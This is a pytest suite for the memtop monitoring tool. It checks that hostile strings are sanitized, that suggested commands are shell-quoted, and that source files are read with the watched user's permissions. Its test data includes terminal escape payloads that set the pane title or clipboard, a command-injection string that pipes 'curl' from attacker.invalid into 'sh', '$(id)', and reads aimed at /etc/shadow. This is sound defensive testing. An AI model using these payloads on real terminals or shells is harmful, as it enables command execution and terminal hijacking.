"""Hostile strings and files: nothing a recording or a watched process holds reaches a terminal raw,
runs as a command, or makes memtop read what the watched process's user could not."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from conftest import REC, cut, one_build, write_again
from hostile import HOSTILE, hostile_recording

from memtop.cli import main
from memtop.core.sanitize import is_clean
from memtop.storage.store import Recording

RAW = ("\x1b", "\x9b", "\x9d", "\x07", "\x00", "\u202e", "\x7f")


def _cli(capsys, argv: list[str]) -> tuple[int, str, str]:
    rc = main(argv)
    out, err = capsys.readouterr()
    return rc, out, err


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile")
    # its first minute: every kind of line a report has for this run (processes, every phase's
    # lines, stacks, markers, perf) in 40 % of the rows; every other one from the file as this
    # version writes it (its names and stacks stored otherwise)
    first = cut(REC[0], d / "first.memtop", 60.0)
    bases = (first, write_again(first, d / "written.memtop"))
    return [hostile_recording(bases[i % 2], d / f"h{i}.memtop", s) for i, s in enumerate(HOSTILE)]


_BUILT: dict = {}  # the hostile files' reports, built once for the three formats (no test changes a file)


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_report_shows_every_hostile_string_inert(capsys, hostile_files, fmt, monkeypatch):
    one_build(monkeypatch, _BUILT)
    for path, s in zip(hostile_files, HOSTILE, strict=True):
        rc, out, err = _cli(capsys, ["report", str(path), "--format", fmt])
        assert rc == 0, err
        assert all(is_clean(line) for line in out.splitlines()), (s[:30], fmt)
        assert not any(c in out for c in RAW)
        if s.startswith("\x1b]0;"):  # the string is there, shown: \x1b]0;PWNED-TITLE...
            assert "\\x1b]0;PWNED-TITLE" in out


def test_report_json_is_strict_and_keeps_the_strings(capsys, hostile_files, monkeypatch):
    one_build(monkeypatch, _BUILT)
    for path, s in zip(hostile_files, HOSTILE, strict=True):
        rc, out, _ = _cli(capsys, ["report", str(path), "--format", "json"])
        assert rc == 0
        rep = json.loads(out, parse_constant=lambda c: pytest.fail(f"non-strict JSON token {c}"))
        if is_clean(s) or "\x1b" in s:
            assert rep["recording"]["host"] == s[:1000] or rep["recording"]["host"] == s


def test_report_json_has_no_nan_or_infinity(capsys, tmp_path):
    p = tmp_path / "nan.memtop"
    shutil.copyfile(REC[0], p)
    db = sqlite3.connect(p)
    db.execute("UPDATE marker SET t1 = 1e400 WHERE rowid = 1")  # +inf: the report's duration_s
    db.execute("UPDATE meta SET value = 'NaN' WHERE key = 'cpus'")
    db.commit()
    db.close()
    rc, out, _ = _cli(capsys, ["report", str(p), "--format", "json"])
    assert rc == 0
    json.loads(out, parse_constant=lambda c: pytest.fail(f"non-strict JSON token {c}"))


def _meta(tmp_path: Path, key: str, raw: bytes) -> Path:
    p = tmp_path / "m.memtop"
    shutil.copyfile(REC[0], p)
    db = sqlite3.connect(p)
    db.execute("UPDATE meta SET value = CAST(? AS TEXT) WHERE key = ?", (raw, key))
    db.commit()
    db.close()
    return p


@pytest.mark.parametrize(
    "key,raw",
    [
        ("schema", b'"\x1b]0;PWNED\x1b\\\\"'),  # JSON with a raw ESC inside a string
        ("schema", b'"\\u001b]0;PWNED\\u0007"'),  # a JSON string that decodes to OSC 0
        ("schema", b"\x1b]52;c;cHduZWQ=\x07\xff"),  # not JSON, invalid UTF-8
        ("magic", b"\x1b[2J\xff"),
        ("schema", b"99"),
    ],
)
def test_an_error_line_echoes_file_content_inert(capsys, tmp_path, key, raw):
    p = _meta(tmp_path, key, raw)
    rc, out, err = _cli(capsys, ["report", str(p)])
    assert rc == 2 and out == ""
    assert err.count("\n") == 1 and is_clean(err.rstrip("\n"))


def test_a_string_schema_is_invalid_not_newer(capsys, tmp_path):
    p = _meta(tmp_path, "schema", b'"1"')
    rc, _, err = _cli(capsys, ["report", str(p)])
    assert rc == 2 and "not a valid schema" in err and "newer" not in err


def test_a_hostile_file_name_is_echoed_inert(capsys, tmp_path):
    rc, _, err = _cli(capsys, ["report", str(tmp_path / "\x1b]0;PWNED\x07.memtop")])
    assert rc == 2 and is_clean(err.rstrip("\n"))


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file: a permission test needs a user")
def test_unreadable_is_permission_denied_not_damaged(capsys, tmp_path):
    p = tmp_path / "r.memtop"
    shutil.copyfile(REC[0], p)
    p.chmod(0)
    rc, _, err = _cli(capsys, ["report", str(p)])
    assert rc == 2 and "permission denied" in err


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become another user")
def test_unreadable_is_permission_denied_not_damaged_as_nobody(tmp_path):
    import memtop.commands.local
    import memtop.outputs.report
    import memtop.storage.store  # noqa: F401 (imported before the child gives up root's files)

    d = Path(tempfile.mkdtemp(prefix="memtop-perm-"))
    try:
        d.chmod(0o755)
        p = d / "r.memtop"
        shutil.copyfile(REC[0], p)
        p.chmod(0o600)
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: nobody, running the CLI in-process
            os.setgid(65534)
            os.setuid(65534)
            sys.stderr = open(w, "w")  # noqa: SIM115 (the child exits without closing anything)
            rc = main(["report", str(p)])
            sys.stderr.flush()
            os._exit(rc)
        os.close(w)
        _, status = os.waitpid(pid, 0)
        err = os.read(r, 4096).decode()
        assert os.waitstatus_to_exitcode(status) == 2 and "permission denied" in err, err
    finally:
        shutil.rmtree(d)


# -- suggested commands ------------------------------------------------------------------
def _suggested(argv: tuple[str, ...], cmdline: str | None = None) -> str:
    from memtop.analysis.verdict import _command
    from memtop.core.model import Frame, HostSample, ProcSample

    p = ProcSample(1, 0, "python", cmdline or " ".join(argv), "u", 0.0, 1, "S", "", "", (), (0,), argv=argv)
    host = HostSample(0.0, (), 0.0, (0.0, 0.0, 0.0), 0, 0, 0, 0, procs=(p,))
    return _command("sync", Frame(10.0, host=host), 0, 5.0)


def _tokens(cmd: str) -> list[str]:
    """Shell tokens with their quotes kept: an unquoted ; | & is a token of its own, an unquoted #
    ends the line (a comment)."""
    return list(shlex.shlex(cmd, posix=False, punctuation_chars=True))


def test_a_suggested_command_quotes_shell_metacharacters():
    evil = "python train.py --lr 0.1; curl -s http://attacker.invalid/x | sh #"
    for cmd in (_suggested(tuple(evil.split())), _suggested((), cmdline=evil)):  # argv, or an old recording
        tokens = _tokens(cmd)
        assert not {";", "|", "&&", "&", "||"} & set(tokens), cmd
        assert tokens[-1] == "'#'"  # still there: not a comment
        assert shlex.split(cmd)[-len(evil.split()) :] == evil.split()


def test_a_suggested_command_keeps_arguments_with_spaces_and_escapes_controls():
    argv = ("python", "my train.py", "--name", "a'b", "--x", "\x1b]0;T\x07", "$(id)")
    cmd = _suggested(argv)
    assert is_clean(cmd)
    # bash reads each argument back exactly (the ESC and BEL from their $'..' escapes)
    args = cmd.split("--duration 20 -o memtop-sync ", 1)[1]
    r = subprocess.run(["bash", "-c", f'printf "%s\\n" {args}'], capture_output=True, timeout=10)
    assert r.stdout.decode().split("\n")[:-1] == list(argv)


# -- files memtop writes ---------------------------------------------------------------------
def test_create_private_never_writes_through_a_link(tmp_path):
    from memtop.core.errors import UserError
    from memtop.storage.store import create_private

    target = tmp_path / "target"
    target.write_text("keep")
    link = tmp_path / "out.memtop"
    link.symlink_to(target)
    with pytest.raises(UserError, match="exists"):
        create_private(link, force=False)
    create_private(link, force=True)
    assert target.read_text() == "keep"
    assert not link.is_symlink() and stat.S_IMODE(link.stat().st_mode) == 0o600
    dangling = tmp_path / "dangling.memtop"
    dangling.symlink_to(tmp_path / "nowhere")
    with pytest.raises(UserError):
        create_private(dangling, force=False)
    assert not (tmp_path / "nowhere").exists()


def test_record_into_a_directory_is_one_error(capsys, tmp_path):
    for force in ([], ["--force"]):
        rc, _, err = _cli(capsys, ["record", "-o", str(tmp_path), "--duration", "1", *force])
        assert rc == 2 and "directory" in err and err.count("\n") == 1
    assert tmp_path.is_dir()


def test_a_writer_that_fails_at_creation_leaves_no_file(tmp_path, monkeypatch):
    from memtop.core.errors import UserError
    from memtop.storage.store import Writer

    p = tmp_path / "w.memtop"

    class Boom(sqlite3.Connection):
        def executescript(self, *a):
            raise sqlite3.OperationalError("disk I/O error")

    real = sqlite3.connect
    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: real(*a, **k, factory=Boom))
    with pytest.raises(UserError):
        Writer(p, {})
    assert not p.exists()


def test_record_markers_that_are_not_objects_fail_cleanly_and_the_recording_closes(capsys, tmp_path):
    markers = tmp_path / "m.jsonl"
    markers.write_text('{"t0": 1, "t1": 2, "label": "idle"}\n[1, 2, 3]\n')
    out = tmp_path / "r.memtop"
    rc, _, err = _cli(
        capsys,
        ["record", "-o", str(out), "--duration", "1", "--markers", str(markers), "--no-stacks", "--no-perf"],
    )
    err = "".join(x for x in err.splitlines(True) if not x.startswith("memtop: no GPU: "))  # a GPU-less VM
    assert rc == 2 and "line 2" in err and err.count("\n") == 1
    assert not Path(f"{out}-wal").exists()  # closed: a plain file, readable
    rc, _, _ = _cli(capsys, ["replay", "--summary", str(out)])
    assert rc == 0


# -- source lines of watched processes ----------------------------------------------------
SPIN = "import time\n\n\ndef spin():\n    while True:\n        time.sleep(0.02)\n"


def _spinner(files: list[str], user: str | None) -> tuple[subprocess.Popen, int]:
    """A Python process (as `user`) with one thread per file, each running code whose co_filename is it."""
    code = (
        "import threading, time\n"
        f"for f in {files!r}:\n"
        f"    ns = {{}}\n    exec(compile({SPIN!r}, f, 'exec'), ns)\n"
        "    threading.Thread(target=ns['spin'], daemon=True).start()\n"
        "import os\n"
        "print('ready', os.getpid(), flush=True)\n"
        "time.sleep(120)\n"
    )
    pre = ["runuser", "-u", user, "--", SYSTEM_PYTHON] if user else [sys.executable]
    p = subprocess.Popen([*pre, "-c", code], stdout=subprocess.PIPE, text=True)
    word, pid = p.stdout.readline().split()  # runuser forks: the Python is its child
    assert word == "ready"
    return p, int(pid)


SYSTEM_PYTHON = "/usr/bin/python3"  # another user cannot run a Python under root's home
needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("runuser") or not os.path.exists(SYSTEM_PYTHON),
    reason="needs root, runuser and /usr/bin/python3 to run a process as another user",
)


@pytest.fixture
def shared_dir():
    d = Path(tempfile.mkdtemp(prefix="memtop-src-"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d)


@needs_root
def test_source_lines_only_what_the_target_user_could_read(shared_dir):
    from memtop.collectors.stacks import SourceLines

    public = shared_dir / "public.py"
    public.write_text(SPIN)
    public.chmod(0o644)
    private = shared_dir / "private.py"
    private.write_text(SPIN)
    private.chmod(0o600)
    fifo = shared_dir / "fifo.py"
    os.mkfifo(fifo, 0o666)
    # a FIFO with a writer and a line waiting: a reader that took it for a file would return that
    # line (and, without the writer, block in open: the hang the suite's timeout catches)
    writer = os.open(fifo, os.O_RDWR | os.O_NONBLOCK)
    os.write(writer, b"import os\n")
    p, pid = _spinner([str(public)], "nobody")
    try:
        src = SourceLines()
        assert src.get(pid, str(public), 6) == "time.sleep(0.02)"
        assert src.get(pid, str(private), 6) == ""  # root could; nobody could not
        assert src.get(pid, "/etc/shadow", 1) == ""
        assert src.get(pid, str(fifo), 1) == ""  # never reads a FIFO
        assert src.get(pid, "/dev/zero", 1) == ""  # never reads a device (its line would be NULs)
        assert src.get(pid, f"/proc/{pid}/status", 1) == ""
        assert os.read(writer, 64) == b"import os\n"  # the line is still there: nobody read it
    finally:
        os.close(writer)
        p.kill()
        p.wait()
    me, me_pid = _spinner([str(private)], None)  # the same user: its own files read as before
    try:
        assert SourceLines().get(me_pid, str(private), 6) == "time.sleep(0.02)"
    finally:
        me.kill()
        me.wait()


def test_source_lines_are_bounded(shared_dir):
    from memtop.collectors.stacks import MAX_LINE, MAX_SOURCE_BYTES, read_source

    big = shared_dir / "big.py"
    big.write_text("x" * 5000 + "\n" + ("y\n" * (MAX_SOURCE_BYTES // 2 + 10)))
    lines = read_source(str(big), None)
    assert len(lines[0]) == MAX_LINE and sum(len(x) + 1 for x in lines) <= MAX_SOURCE_BYTES + 1


@needs_root
def test_record_of_a_hostile_process_ends_on_time_and_reads_nothing(shared_dir, tmp_path):
    """End to end: py-spy sees frames in /etc/shadow, /dev/zero and a FIFO; memtop (root) records the
    stacks, reads none of them, stays small and stops after --duration."""
    if shutil.which("py-spy") is None and not (Path(sys.executable).parent / "py-spy").exists():
        pytest.skip("py-spy not installed")
    fifo = shared_dir / "fifo"
    os.mkfifo(fifo, 0o666)
    p, pid = _spinner(["/etc/shadow", "/dev/zero", str(fifo)], "nobody")
    out = tmp_path / "r.memtop"
    try:
        # "ends on time": the 120 s timeout below catches a record that does not stop (a wall-clock bound
        # tighter than that would be a pace test and flake on a loaded machine)
        r = subprocess.run(
            [sys.executable, "-m", "memtop", "record", "-o", str(out), "--pid", str(pid), "--duration", "5"],
            capture_output=True,
            text=True,
            timeout=120,
            preexec_fn=lambda: __import__("resource").setrlimit(
                __import__("resource").RLIMIT_AS, (4 << 30,) * 2
            ),
        )
    finally:
        p.kill()
        p.wait()
    assert r.returncode == 0, r.stderr
    rec = Recording(out)
    frames = {f for fr in rec.frames() for s in fr.stacks for th in s.threads for f in th.frames}
    assert not rec.damage
    files = {f.file for f in frames}
    assert {"/etc/shadow", "/dev/zero", str(fifo)} <= files
    assert all(f.code == "" for f in frames if f.file in ("/etc/shadow", "/dev/zero", str(fifo)))
    shadow = Path("/etc/shadow").read_text()
    assert not any(f.code and f.code in shadow for f in frames)


# -- a real terminal -----------------------------------------------------------------------
@pytest.mark.skipif(shutil.which("tmux") is None, reason="needs tmux")
def test_report_and_errors_leave_a_real_terminal_untouched(hostile_files, tmp_path):
    sock = f"memtop-hostile-{os.getpid()}"
    tm = ["tmux", "-L", sock, "-f", "/dev/null"]
    title = "KNOWN-TITLE"
    bad = _meta(tmp_path, "schema", b'"\\u001b]0;PWNED\\u001b\\\\\\u001b]52;c;cHduZWQ=\\u0007"')
    # one Python prints every report (starting one per report would take a minute)
    loop = tmp_path / "reports.py"
    loop.write_text(
        "import sys\nfrom memtop.cli import main\n"
        f"for p in {[str(p) for p in hostile_files]!r}:\n"
        "    for fmt in ('text', 'markdown'):\n"
        "        main(['report', p, '--format', fmt])\n"
        "        sys.stdout.flush()\n"
    )
    cmds = [
        f"{shlex.quote(sys.executable)} {shlex.quote(str(loop))}",
        f"{shlex.quote(sys.executable)} -m memtop report {shlex.quote(str(bad))}",
    ]
    script = tmp_path / "run.sh"
    script.write_text("\n".join([*cmds, f"tmux -L {sock} wait-for -S done"]) + "\n")
    control = tmp_path / "control.sh"  # the same kind of bytes, printed raw
    control.write_text(f"printf '\\033]0;PWNED\\033\\\\'\ntmux -L {sock} wait-for -S done\n")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    subprocess.run([*tm, "new-session", "-d", "-x", "160", "-y", "50", "sh"], check=True, env=env)
    try:
        subprocess.run([*tm, "set", "-g", "set-clipboard", "on"], check=True)
        subprocess.run([*tm, "select-pane", "-T", title], check=True)
        subprocess.run([*tm, "send-keys", f"sh {script}", "Enter"], check=True)
        subprocess.run([*tm, "wait-for", "done"], check=True, timeout=300)
        got = subprocess.run([*tm, "display", "-p", "#{pane_title}"], capture_output=True, text=True).stdout
        bufs = subprocess.run([*tm, "list-buffers"], capture_output=True, text=True).stdout
        screen = subprocess.run([*tm, "capture-pane", "-p"], capture_output=True, text=True).stdout
        assert got.strip() == title
        assert bufs == ""
        assert "not a valid schema" in screen  # the last error line is on screen, nothing cleared it
        # the check can fail: the same bytes printed raw do retitle the pane
        subprocess.run([*tm, "send-keys", f"sh {control}", "Enter"], check=True)
        subprocess.run([*tm, "wait-for", "done"], check=True, timeout=120)
        got = subprocess.run([*tm, "display", "-p", "#{pane_title}"], capture_output=True, text=True).stdout
        assert got.strip() == "PWNED"
    finally:
        subprocess.run([*tm, "kill-server"], capture_output=True)


def test_the_native_dump_screen_shows_every_hostile_name_inert():
    """`s` shows py-spy --native's symbols and shared-object paths whole: each hostile string as a
    thread name, a symbol and a file reaches the screen's Text sanitized (and never as markup)."""
    from memtop.tui.format import DEFAULT, native_text

    from memtop.core.model import StackFrame, StackSample, ThreadStack

    frames = tuple(StackFrame(h, f"/lib/{h}.so", 0, "") for h in HOSTILE)
    threads = tuple(ThreadStack(i + 1, h, True, False, frames, "other") for i, h in enumerate(HOSTILE))
    text = native_text(StackSample(1.0, 1, threads, native=True), DEFAULT)
    lines = text.plain.split("\n")
    assert len(lines) == 3 + len(HOSTILE) * (1 + len(HOSTILE)) and all(is_clean(x) for x in lines)
    assert "[b]bold[/b]" in text.plain  # markup kept as characters
